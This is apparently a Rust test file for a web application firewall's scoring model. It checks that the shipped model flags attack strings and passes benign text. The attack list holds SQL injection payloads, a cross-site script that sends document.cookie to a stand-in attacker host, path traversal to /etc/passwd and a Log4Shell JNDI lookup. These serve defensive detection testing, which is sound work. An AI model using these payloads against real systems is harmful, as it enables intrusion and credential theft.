//! The shipped model: read, and right on texts that everybody knows.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "helpers of tests stand outside test functions")]

use score::{Mode, Policy, Scorer, Value};
use std::path::Path;

fn shipped() -> Scorer {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/waf/model.txt");
    let text = std::fs::read_to_string(path).unwrap_or_default();
    Scorer::read(&text).unwrap_or_else(|fault| panic!("content/waf/model.txt: {fault}"))
}

fn probability(scorer: &Scorer, value: &str) -> f32 {
    scorer.judge([Value { variable: "ARGS", key: b"q", value: value.as_bytes() }], &[]).probability
}

#[test]
fn attacks_are_raised_without_any_rule() {
    let scorer = shipped();
    let raise_at = scorer.bands().raise_at;
    for value in [
        "1' or '1'='1' -- ",
        "-1 union all select null,table_name,null from information_schema.tables--",
        "1;exec master..xp_cmdshell 'ping 192.0.2.1'--",
        "1%27%20and%20sleep(5)%23",
        "MScgVU5JT04gU0VMRUNUIHVzZXIscGFzc3dvcmQgRlJPTSB1c2Vycy0tIA==",
        "1'/**/oR/**/ascii(substring((select/**/password/**/from/**/users),1,1))>64#",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<script>fetch('//evil.example/?'+document.cookie)</script>",
        "../../../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ] {
        let found = probability(&scorer, value);
        assert!(found >= raise_at, "{value}: {found} below {raise_at}");
    }
}

#[test]
fn plain_texts_are_not() {
    let scorer = shipped();
    let raise_at = scorer.bands().raise_at;
    for value in [
        "",
        "O'Reilly & Sons, Inc.",
        "rock 'n' roll and/or jazz",
        "Please select the best offer from the list and order by Friday; don't drop it!",
        "请从列表中选择一个商品，然后更新数量；谢谢（2件）",
        "https://www.example.com/search?q=union+station&sort=price&order=desc#top",
        "{\"name\":\"D'Angelo\",\"tags\":[\"a\",\"b\"],\"price\":{\"min\":1,\"max\":20}}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.4zq0p8Q9qBvGZrE3cX0u8Yw8l5sJ0cQ2s6v3l4dGm1A",
        "f(x) = 2*x + 1, x > 0 and y <= 3",
        "<p>Dear all,</p><p>the <b>minutes</b> are <a href=\"https://www.example.com/m\">here</a>.</p>",
        "5'10\" x 3/4\" -- used (like new)",
        "C:\\Users\\Bob\\Documents\\report (final).docx",
        "if (a == null) { return b; } // never happens",
    ] {
        let found = probability(&scorer, value);
        assert!(found < raise_at, "{value}: {found} at or above {raise_at}");
    }
}

#[test]
fn padding_hides_nothing() {
    let scorer = shipped();
    let padded = format!("{}' union select user,password from users-- ", "lorem ipsum ".repeat(10_000));
    assert!(probability(&scorer, &padded) >= scorer.bands().raise_at);
}

#[test]
fn a_score_moves_the_anomaly_score_within_bounds() {
    let scorer = shipped();
    let value = Value { variable: "ARGS", key: b"id", value: b"1' or 1=1 -- " };
    let score = scorer.judge([value], &[]);
    assert_eq!((score.variable, score.key.as_slice(), score.injection), ("ARGS", &b"id"[..], true));
    let policy = Policy { mode: Mode::Block, ..Policy::default() };
    assert_eq!(policy.adjust(0, &score, scorer.bands()).inbound, 5);
    assert_eq!(Policy::default().adjust(0, &score, scorer.bands()).inbound, 0);
}
